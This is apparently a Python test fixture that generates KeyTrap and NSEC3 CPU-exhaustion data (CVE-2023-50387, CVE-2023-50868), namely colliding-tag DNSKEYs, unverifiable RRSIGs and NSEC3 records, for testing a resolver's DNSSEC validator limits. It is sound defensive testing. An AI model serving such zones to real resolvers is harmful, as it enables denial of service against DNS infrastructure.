"""Hostile DNSSEC data for the validator's CPU bounds: KeyTrap (CVE-2023-50387)
and the NSEC3 variant (CVE-2023-50868).

A key tag is a 16-bit checksum of the DNSKEY rdata (RFC 4034 Appendix B), so
keys that share one are easy to make on purpose: RSA public keys with one
modulus and exponents that differ by +d in one 16-bit word and -d in another
all sum to the same tag. Their exponents are 2,040 bits long, so every
verification a validator tries with them is a full-length modular
exponentiation (about 2 ms), as in the published attack. The RRSIGs that name
that tag are well-formed and in date, with a signature as long as the
modulus, so nothing short of the arithmetic rejects them.

`keytrap_zone()` is a zone for the test resolver of tests/unit/test_dnssec.py
with its own DNSKEY trust anchor: its DNSKEY rrset (the real KSK plus the
colliding keys) is properly signed, its MX rrset carries only RRSIGs that name
the colliding tag, and its `mx` A rrset is properly signed.
"""

from __future__ import annotations

import os
import time
from dataclasses import dataclass

import dns.dnssec
import dns.name
import dns.rdataclass
import dns.rdatatype
import dns.rrset
from cryptography.hazmat.primitives.asymmetric import rsa
from dns.dnssectypes import Algorithm
from dns.rdtypes.ANY.DNSKEY import DNSKEY
from dns.rdtypes.ANY.NSEC3 import NSEC3
from dns.rdtypes.ANY.RRSIG import RRSIG

from tests.lab.nsd import DEFAULT_TTL, Zone

DAY = 86400
RSASHA256 = Algorithm.RSASHA256


def colliding_keys(count: int, flags: int = 256) -> list[DNSKEY]:
    """`count` (100 at most) distinct RSASHA256 DNSKEYs that all have the same key tag."""
    assert 0 < count <= 100
    modulus = (
        rsa.generate_private_key(public_exponent=65537, key_size=2048)
        .public_key()
        .public_numbers()
        .n.to_bytes(256, "big")
    )
    exponent = bytearray(b"\x40" + os.urandom(253) + b"\x01")  # 255 bytes, odd, < modulus
    exponent[1] = exponent[3] = 100
    keys = []
    for d in range(count):
        # rdata: flags(2) protocol(1) algorithm(1) length(1) exponent modulus; the
        # exponent's bytes 1 and 3 sit at rdata offsets 6 and 8: both high bytes
        # of a 16-bit word, so +d on one and -d on the other keep the checksum.
        varied = bytearray(exponent)
        varied[1] += d
        varied[3] -= d
        public = bytes([len(varied)]) + bytes(varied) + modulus
        keys.append(DNSKEY(dns.rdataclass.IN, dns.rdatatype.DNSKEY, flags, 3, RSASHA256, public))
    assert len({dns.dnssec.key_id(k) for k in keys}) == 1
    return keys


def junk_signature(
    owner: dns.name.Name,
    signer: dns.name.Name,
    covered: dns.rdatatype.RdataType,
    tag: int,
    now: float,
    salt: int = 0,
) -> RRSIG:
    """A well-formed, in-date RRSIG over `owner` by `signer`'s key `tag`,
    whose signature cannot verify."""
    body = bytes([0x01]) + os.urandom(253) + salt.to_bytes(2, "big")  # 256 bytes, < any modulus
    return RRSIG(
        dns.rdataclass.IN,
        dns.rdatatype.RRSIG,
        covered,
        RSASHA256,
        len(owner) - 1,
        DEFAULT_TTL,
        int(now + 30 * DAY),
        int(now - 3600),
        tag,
        signer,
        body,
    )


@dataclass(frozen=True)
class Trap:
    zone: Zone
    anchor: str  # the DNSKEY trust anchor line for the zone
    tag: int  # the tag the colliding keys share
    keys: int  # how many colliding keys
    signatures: int  # how many junk RRSIGs over the MX rrset
    private: rsa.RSAPrivateKey  # the KSK's, to sign crafted answers
    ksk: DNSKEY
    origin: dns.name.Name
    now: float

    def sign(self, rrset: dns.rrset.RRset) -> dns.rrset.RRset:
        """A valid RRSIG rrset over `rrset`, by the zone's KSK."""
        return _sign(self.private, self.ksk, self.origin, self.now, rrset)


def keytrap_zone(
    origin: str = "trap.test",
    keys: int = 12,
    signatures: int = 40,
    hosts: int = 0,
    now: float | None = None,
) -> Trap:
    """The zone, with `hosts` more names h0, h1... whose A rrsets carry the
    same junk RRSIGs as the MX rrset (the attack spread over many rrsets)."""
    now = time.time() if now is None else now
    apex = dns.name.from_text(origin)
    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    ksk = dns.dnssec.make_dnskey(private.public_key(), RSASHA256, flags=257)
    trap = colliding_keys(keys)
    tag = dns.dnssec.key_id(trap[0])
    dnskeys = dns.rrset.from_rdata_list(apex, DEFAULT_TTL, [ksk, *trap])
    mx = dns.rrset.from_text(apex, DEFAULT_TTL, "IN", "MX", f"10 mx.{origin}.")
    a = dns.rrset.from_text(f"mx.{origin}.", DEFAULT_TTL, "IN", "A", "127.1.1.2")
    junk = [junk_signature(apex, apex, dns.rdatatype.MX, tag, now, i) for i in range(signatures)]
    rrsets = [
        dnskeys,
        _sign(private, ksk, apex, now, dnskeys),
        mx,
        dns.rrset.from_rdata_list(apex, DEFAULT_TTL, junk),
        a,
        _sign(private, ksk, apex, now, a),
    ]
    for i in range(hosts):
        host = dns.name.from_text(f"h{i}", apex)
        rrsets.append(dns.rrset.from_text(host, DEFAULT_TTL, "IN", "A", f"127.1.2.{i % 250}"))
        junk = [junk_signature(host, apex, dns.rdatatype.A, tag, now, n) for n in range(signatures)]
        rrsets.append(dns.rrset.from_rdata_list(host, DEFAULT_TTL, junk))
    lines = tuple(line for rrset in rrsets for line in _lines(rrset))
    anchor = f"{origin}. IN DNSKEY {ksk.to_text()}"
    return Trap(Zone(origin, lines), anchor, tag, keys, signatures, private, ksk, apex, now)


def nsec3_records(
    trap: Trap, count: int, iterations: int, salt: bytes = b"\xab\xcd"
) -> list[dns.rrset.RRset]:
    """`count` NSEC3 rrsets in the trap zone, each followed by its valid RRSIG,
    for a denial's authority section."""
    out: list[dns.rrset.RRset] = []
    for i in range(count):
        owner = dns.name.from_text(f"{i:032x}", trap.origin)
        rdata = NSEC3(
            dns.rdataclass.IN,
            dns.rdatatype.NSEC3,
            1,  # SHA-1, the only NSEC3 hash
            0,
            iterations,
            salt,
            bytes(range(i, i + 20)),
            [(0, b"\x40")],  # a bitmap naming A only: the type asked is not there
        )
        rrset = dns.rrset.from_rdata(owner, DEFAULT_TTL, rdata)
        out += [rrset, trap.sign(rrset)]
    return out


def _sign(
    private: rsa.RSAPrivateKey,
    ksk: DNSKEY,
    signer: dns.name.Name,
    now: float,
    rrset: dns.rrset.RRset,
) -> dns.rrset.RRset:
    sig = dns.dnssec.sign(
        rrset,
        private,
        signer,
        ksk,
        inception=int(now - 3600),
        expiration=int(now + 30 * DAY),
    )
    return dns.rrset.from_rdata(rrset.name, rrset.ttl, sig)


def _lines(rrset: dns.rrset.RRset) -> list[str]:
    kind = dns.rdatatype.to_text(rrset.rdtype)
    return [f"{rrset.name.to_text()} {rrset.ttl} IN {kind} {rdata.to_text()}" for rdata in rrset]
